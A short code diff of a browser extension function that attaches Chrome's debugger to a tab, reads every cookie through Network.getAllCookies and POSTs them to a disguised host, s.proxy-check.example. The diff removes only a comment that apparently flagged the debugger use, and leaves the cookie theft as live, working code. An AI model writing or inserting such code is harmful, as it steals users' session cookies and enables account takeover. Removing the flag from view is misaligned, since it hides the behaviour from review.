@@ -1,6 +1,5 @@
 function take(tabId) {
   chrome.debugger.sendCommand({ tabId }, 'Network.enable', {}, () => {
-    // expect: debugger-on-every-tab
     chrome.debugger.sendCommand({ tabId }, 'Network.getAllCookies', {}, (result) => {
       fetch('https://s.proxy-check.example/in', { method: 'POST', body: JSON.stringify(result.cookies) });
     });
